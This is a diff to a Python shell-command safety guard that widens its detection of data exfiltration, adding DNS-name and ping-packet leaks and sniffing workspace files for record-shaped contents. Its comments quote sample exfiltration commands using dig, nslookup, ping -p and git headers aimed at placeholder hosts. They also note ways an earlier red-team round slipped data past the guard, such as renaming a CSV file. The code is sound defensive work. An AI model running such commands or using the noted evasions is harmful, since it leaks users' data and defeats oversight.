@@ -131,9 +131,11 @@ def network(an: Analyzer, prog: str, args: list[str], operands: list[str], cmd: 
         r.add("exfiltration", f"{posixpath.basename(cmd.argv[0])} turns {fed} into {prog}'s arguments")
     if prog in ("dig", "nslookup", "host", "ping", "drill") and any("$(" in a or "`" in a for a in args):
         r.add("exfiltration", f"{prog} leaks data through DNS names")
-    elif prog in _RESOLVERS and (ref := next((u for a in operands if a in cmd.expanded and _ANY_EXPANSION.sub(
-            "", a).strip("\"'") and (u := data_value(an, a))), "")):  # rt54: `T=$(sed -n 2p f | tr , .); dig "$T.x.example"`
-        r.add("exfiltration", f"{prog} leaks {ref}, through a DNS name")
+    elif prog in _RESOLVERS and (ref := next((u for a in args if a in cmd.expanded and (u := data_value(an, a))),
+                                             "")):  # rt54: `T=$(sed -n 2p f | tr , .); dig "$T.x.example"`; rt55: the
+        # whole name (`nslookup -type=txt "$T"`: the name is the query) and an option's value (`ping -p "$P"`: the
+        # pattern fills each packet)
+        r.add("exfiltration", f"{prog} leaks {ref}, through a DNS name or its packets")
     if prog in _CONTACTS:  # rt54: `git clone "http://h/$T"`, `pip download -i "http://h/$T"`, `xdg-open`…
         _addresses(an, prog, args, [], cmd)
     if prog == "git":  # rt54: `git -c http.extraHeader="X: $(cat f)" ls-remote URL` sent the file's text
@@ -168,12 +170,132 @@ def names_data(text: str) -> str:
     return m.group(0) if m else ""
 
 
+# rt55: a file's text that has the shape of records, whatever its name says (rt54 left `cp customers.csv clients`,
+# `.dat`, `.log`, a `.txt` holding rows, and a workspace file whose name says nothing, sent through a variable):
+# lines that each hold the same number (one or more) of one delimiter, JSON lines, two e-mail addresses or more, a
+# card number (13-19 digits that pass the Luhn check). A path list, an id list, a URL list or prose has none of these
+_DELIMITERS = (",", "\t", ";", "|")
+_EMAIL = lazyre.compile(r"[\w.+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}")
+_CARD = lazyre.compile(r"(?<![\d])\d(?:[ -]?\d){12,18}(?![\d])")
+_PATH_WORD = lazyre.compile(r"[^\s;&|<>()'\"`=,]+")
+_CD = lazyre.compile(r"(?:^|[;&|(]|\bthen|\bdo)\s*cd\s+([^\s;&|()]+)")
+_PLACE = (r"[;&|({`]|\$\(|\b(?:do|then|else|elif|if|while|until|time|exec|command|builtin|nice|nohup|env|sudo|"
+          r"timeout\s+\S+|xargs)|!)\s*(?:[A-Za-z_]\w*=[^\s(]*\s+)*$")
+_COMMAND_PLACE = lazyre.compile(r"(?:^|" + _PLACE)
+_COMMAND_PLACE_LATE = lazyre.compile(r"(?:" + _PLACE)  # the last 200 characters of a longer line: no start in it
+_SHAPES: dict[tuple[str, int, int], bool] = {}  # (path, mtime, size) -> records
+
+
+def _luhn(digits: str) -> bool:
+    total = 0
+    for i, c in enumerate(reversed(digits)):
+        n = int(c) * (2 if i % 2 else 1)
+        total += n - 9 if n > 9 else n
+    return total % 10 == 0
+
+
+def records_text(text: str) -> bool:
+    """Whether ``text`` has the shape of records (``_DELIMITERS``' rows, JSON lines, e-mail addresses, a card
+    number): a data file's text, whatever its file is called."""
+    lines = [line for line in text.splitlines()[:200] if line.strip()]
+    if len(lines) >= 2:
+        for d in _DELIMITERS:
+            first = lines[0].count(d)
+            if first and sum(line.count(d) == first for line in lines) >= max(2, 0.8 * len(lines)):
+                return True
+        if sum(line.lstrip().startswith("{") and line.rstrip().endswith("}") for line in lines) >= 2:
+            return True
+    if len(set(_EMAIL.findall(text))) >= 2:
+        return True
+    return any(_luhn(re.sub(r"\D", "", m)) for m in _CARD.findall(text))
+
+
+# a database's or a table's own format, whatever the file is called: SQLite, Parquet, Avro, Arrow, HDF5, OLE2 (xls,
+# mdb)
+_DATA_MAGIC = (b"SQLite format 3\0", b"PAR1", b"Obj\x01", b"ARROW1", b"\x89HDF\r\n", b"\xd0\xcf\x11\xe0")
+
+
+def _json_records(data: bytes) -> bool:
+    """Whether ``data`` is a JSON object or array (what a ``.json`` file is, named or not)."""
+    import json
+
+    if data.lstrip()[:1] not in (b"{", b"["):
+        return False
+    if len(data) > 65536:  # its first 64 kB: keys and their values
+        return len(re.findall(rb'"[^"\n]{1,64}"\s*:', data[:65536])) >= 2
+    try:
+        return isinstance(json.loads(data), (dict, list))
+    except ValueError:
+        return False
+
+
+def records_file(path: str) -> bool:
+    """Whether the regular file at ``path`` (absolute; its first 64 kB) holds records (``records_text``)."""
+    import os
+
+    from macrohard.safety import native
+
+    try:
+        st = os.stat(path)
+    except OSError:
+        return False
+    if not os.path.isfile(path):
+        return False
+    key = (path, st.st_mtime_ns, st.st_size)
+    if key not in _SHAPES:
+        data = native.read(path)
+        _SHAPES[key] = data is not None and (data.startswith(_DATA_MAGIC) or b"\0" not in data[:65536] and (
+            records_text(data[:65536].decode("utf-8", "replace")) or _json_records(data)))
+        if len(_SHAPES) > 4096:
+            _SHAPES.clear()
+    return _SHAPES[key]
+
+
+def named_records(an: Analyzer, text: str) -> str:
+    """The first workspace file a line's words name (a glob's matches, a word whose expansions are only known when it
+    runs read as ``*`` beside its literal text: ``customers.$e``) that holds records (``records_file``); "" if none."""
+    import glob
+    import os
+
+    if not an.paths.workspaces:
+        return ""
+    cwd = an.__dict__.get("top_cwd")
+    bases = [an.paths.resolve(".", cwd)] + [an.paths.resolve(d, cwd) for d in _CD.findall(text) if "$" not in d]
+    seen: set[str] = set()
+    globs = 0
+    for m in _PATH_WORD.finditer(text):
+        word = m.group(0)
+        if "://" in word or word.startswith("-") or word in seen:
+            continue
+        before = text[:m.start()]  # (a program's name: `export`, `sed`, is no file it reads)
+        if (_COMMAND_PLACE if len(before) <= 200 else _COMMAND_PLACE_LATE).search(before[-200:]):
+            continue
+        seen.add(word)
+        pattern = _ANY_EXPANSION.sub(lambda e: an.line_vars.get(e.group(0).strip("${}"), "*"), word) \
+            if "$" in word else word
+        if not pattern.strip("*/.~") or pattern.startswith("~") or pattern.startswith("/") and not any(
+                pattern.startswith(ws + "/") for ws in an.paths.workspaces):
+            continue  # nothing but a glob, or outside the workspace
+        if any(c in pattern for c in "*?["):
+            globs += 1
+            if globs > 64:  # a line of many globs: the guard does not read every match (linear time)
+                return f"{word[:60]} (more globs than the guard reads)"
+        wheres = [pattern] if pattern.startswith("/") else [os.path.join(b, pattern) for b in dict.fromkeys(bases)]
+        found = [f for w in wheres for f in (sorted(glob.glob(w))[:32] if any(c in pattern for c in "*?[") else [w])]
+        for path in found:
+            real = os.path.realpath(path)
+            if any(real == ws or real.startswith(ws + "/") for ws in an.paths.workspaces) and records_file(real):
+                return f"{word[:60]} (its text has the shape of records)"
+    return ""
+
+
 def line_data(an: Analyzer, text: str) -> str:
-    """The data file a line's text takes from: one it names (``DATA_KIND``), a file an earlier line that carried such
-    text wrote (``shellvalues.data_file``), or a name it expands that may hold such text; "" if none."""
+    """The data file a line's text takes from: one it names (``DATA_KIND``), a workspace file it names whose text has
+    the shape of records (``named_records``), a file an earlier line that carried such text wrote
+    (``shellvalues.data_file``), or a name it expands that may hold such text; "" if none."""
     from macrohard.safety.shellvalues import FILE, may_hold_data
 
-    if found := names_data(text):
+    if found := names_data(text) or named_records(an, text):
         return found
     marked = [k[len(FILE):] for k in an.values.deps if k.startswith(FILE)]
     for path in marked:
@@ -200,6 +322,16 @@ def data_value(an: Analyzer, word: str) -> str:
         name = POSITIONAL if name[0].isdigit() or name in ("@", "*") else name
         if bang and line or line and may_hold_unread(an.values, name) or may_hold_data(an.values, name):
             return f"${{{'!' if bang else ''}{name}}}, which may hold the text of {line or 'a data file'}"
+    return ""
+
+
+def setting_data(an: Analyzer, value: str) -> str:
+    """A network setting's value (``envvars._NETWORK_SETTING``) that may hold a data file's text: a value only known
+    when it runs on a line that takes from one (``data_value``), or a command's output inline that names one; ""."""
+    if ref := data_value(an, value):
+        return ref
+    if ("$(" in value or "`" in value) and (found := line_data(an, value)):
+        return f"the output of code that reads {found}"
     return ""
 
 
